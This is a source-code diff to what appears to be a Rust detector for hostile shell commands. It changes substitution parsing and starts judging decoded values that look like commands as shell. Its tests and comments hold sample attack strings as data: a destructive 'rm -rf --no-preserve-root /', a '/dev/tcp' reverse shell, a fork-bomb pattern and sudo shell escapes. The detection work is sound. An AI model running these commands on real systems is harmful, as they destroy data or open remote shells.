@@ -719,6 +719,8 @@ struct Frame {
     subst: Option<(usize, usize, usize)>,
     /// Opened by a substitution (not a subshell).
     sub: bool,
+    /// The skip state outside (a `for x in $(ls)` list still runs `ls`).
+    skip: Skip,
 }
 
 /// A program: every command of a text, nested command strings included.
@@ -907,10 +909,10 @@ impl Program {
                     redir = Some(op);
                 }
                 Tok::Open(pos, true) => {
-                    let into_redir = redir.take().is_some();
-                    let _ = into_redir;
+                    redir = None;
                     if skip != Skip::None {
-                        frames.push(Frame { saved: cur, parent: None, subst: None, sub: true });
+                        frames.push(Frame { saved: cur, parent: None, subst: None, sub: true, skip });
+                        skip = Skip::None;
                         sub_depth += 1;
                         cur = None;
                         continue;
@@ -924,17 +926,15 @@ impl Program {
                         && let Some(cm) = self.cmds.get_mut(c)
                         && !(cm.words.is_empty() && assign_end == Some(*pos))
                     {
-                        let glued = cm.words.last().is_some_and(|l| l.raw.end == *pos && !l.subst);
                         cm.words.push(Word { text: "$(".into(), raw: *pos..*pos, subst: true, segments: 1, ..Word::default() });
                         ph = Some((c, cm.words.len() - 1, *pos));
-                        let _ = glued;
                     }
-                    frames.push(Frame { saved: cur, parent: cur, subst: ph, sub: true });
+                    frames.push(Frame { saved: cur, parent: cur, subst: ph, sub: true, skip: Skip::None });
                     sub_depth += 1;
                     cur = None;
                     pipe = None;
                 }
-                Tok::Open(pos, false) => {
+                Tok::Open(_, false) => {
                     if skip == Skip::CasePattern {
                         continue;
                     }
@@ -950,9 +950,8 @@ impl Program {
                         continue;
                     }
                     let p = parent_of(&frames);
-                    frames.push(Frame { saved: cur, parent: p, subst: None, sub: false });
+                    frames.push(Frame { saved: cur, parent: p, subst: None, sub: false, skip: Skip::None });
                     cur = None;
-                    let _ = pos;
                 }
                 Tok::Close(end, is_sub) => {
                     if !is_sub && skip == Skip::CasePattern {
@@ -964,6 +963,7 @@ impl Program {
                         Some(f) => {
                             if f.sub {
                                 sub_depth = sub_depth.saturating_sub(1);
+                                skip = f.skip;
                             }
                             if let Some((c, wi, start)) = f.subst {
                                 if let Some(w) = self.cmds.get_mut(c).and_then(|cm| cm.words.get_mut(wi)) {
@@ -2435,9 +2435,8 @@ fn judge(cmds: &[Cmd], out: &mut Out<'_>) {
         persistence(c, &n, &args, &feeds, from_pub, out);
 
         // Argument injection into known binaries.
-        argument_injection(c, &n, &args, parent, out);
+        argument_injection(c, &n, &args, out);
     }
-    fork_bomb(cmds, out);
 }
 
 /// The first (system) disk: `/dev/sda`, `/dev/nvme0n1`, `/dev/vda`…
@@ -2738,7 +2737,7 @@ fn persistence(c: &Cmd, n: &str, args: &[&str], feeds: &[&Cmd], from_pub: bool, 
 
 #[allow(clippy::too_many_lines, reason = "one arm per binary")]
 #[allow(clippy::collapsible_match, reason = "one arm per binary; its conditions read better inside")]
-fn argument_injection(c: &Cmd, n: &str, args: &[&str], parent: Option<&Cmd>, out: &mut Out<'_>) {
+fn argument_injection(c: &Cmd, n: &str, args: &[&str], out: &mut Out<'_>) {
     let at = &c.at;
     let shellish = |v: &str| {
         let l = v.to_ascii_lowercase();
@@ -2945,8 +2944,6 @@ fn argument_injection(c: &Cmd, n: &str, args: &[&str], parent: Option<&Cmd>, out
             _ => {}
         }
     }
-    // `sudo -u#-1`, `sudo vim -c '!sh'` handled by the wrappers; `sudo su` on data.
-    let _ = parent;
 }
 
 /// Whether a sed script runs a command (`e`, or the `e` flag of `s`).
@@ -2969,11 +2966,6 @@ fn sed_executes(s: &str) -> bool {
         }
     }
     false
-}
-
-fn fork_bomb(cmds: &[Cmd], out: &mut Out<'_>) {
-    let _ = cmds;
-    let _ = out;
 }
 
 /// A fork bomb in raw text: `name(){ name|name& };name`.
@@ -3430,7 +3422,14 @@ pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
     {
         return;
     }
-    match s.context {
+    // A value hidden behind an encoding that decodes to a command line is
+    // judged as one (base64 of `rm -rf /` in a `data` field).
+    let context = if s.decoded && matches!(s.context, Context::Unknown | Context::Text) && looks_like_command(t) {
+        Context::Shell
+    } else {
+        s.context
+    };
+    match context {
         Context::Shell => run_program(t, out),
         Context::Path | Context::Url | Context::Key => {
             value_injection(t, true, false, out);
@@ -3458,10 +3457,12 @@ pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
                 run_program(t, out);
                 return;
             }
-            let text_field = s.context == Context::Text;
+            let text_field = context == Context::Text;
             let single = !t.contains('\n') && t.len() <= 400;
             let prose = text_field && (!single || t.contains('`') || t.matches(' ').count() > 40 || prose_like(t));
-            if !looks_like_command(t) && (!text_field || single) {
+            // A multi-line value is a script or a document: its lines are not injected values.
+            let script = t.lines().filter(|l| !l.trim().is_empty()).count() >= 3;
+            if !looks_like_command(t) && !script && (!text_field || single) {
                 // A sentence in an untyped field reads like text: backticks are markdown.
                 value_injection(t, false, text_field || prose_like(t), out);
             }
@@ -3478,12 +3479,10 @@ pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
             }
         }
         Context::Code => {
-            let before = out.len();
             code_strings(t, out);
             if let Some((conf, rule)) = code_spawns_shell(t) {
                 out.push(Hit::new(Family::ShellInjection, conf, rule, 0..t.len().min(64)));
             }
-            let _ = before;
         }
         Context::Sql => {
             // `; exec xp_cmdshell` is SQL; a shell rule here only on a reverse shell.
@@ -3499,7 +3498,6 @@ pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
             }
         }
     }
-    let _ = s.decoded;
 }
 
 fn lower(c: Confidence) -> Confidence {
@@ -3971,6 +3969,14 @@ mod tests {
     }
 
     #[test]
+    fn a_decoded_command_line_is_judged_as_one() {
+        let mut out = Vec::new();
+        analyze(&Subject { text: "rm -rf --no-preserve-root /", context: Context::Text, field: "data", tool: "", decoded: true }, &mut out);
+        assert!(out.iter().any(|h| h.rule == "shell.destructive" && h.confidence == Confidence::High), "{out:?}");
+        quiet(Context::Text, "rm -rf --no-preserve-root / is the classic example of a destructive command people warn about");
+    }
+
+    #[test]
     fn prose_quoting_an_attack_is_low() {
         quiet(Context::Text, "## Note\n\nNever run `bash -i >& /dev/tcp/HOST/PORT 0>&1` from a random gist: it is a reverse shell.\n");
         fires(Context::Unknown, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "shell.reverse-shell");
@@ -3988,6 +3994,8 @@ mod tests {
         for n in ["find", "rm", "ls", "xargs", "du", "timeout", "nohup", "./srv"] {
             assert!(c.iter().any(|x| x == n), "{n} missing from {c:?}");
         }
+        let c = commands("for f in $(ls *.txt); do wc -l \"$f\"; done").unwrap_or_default();
+        assert_eq!(c, vec!["ls".to_owned(), "wc".to_owned()]);
         assert!(commands("echo 'unterminated").is_err());
         assert!(commands("echo $(date").is_err());
         assert!(commands("echo \"a").is_err());
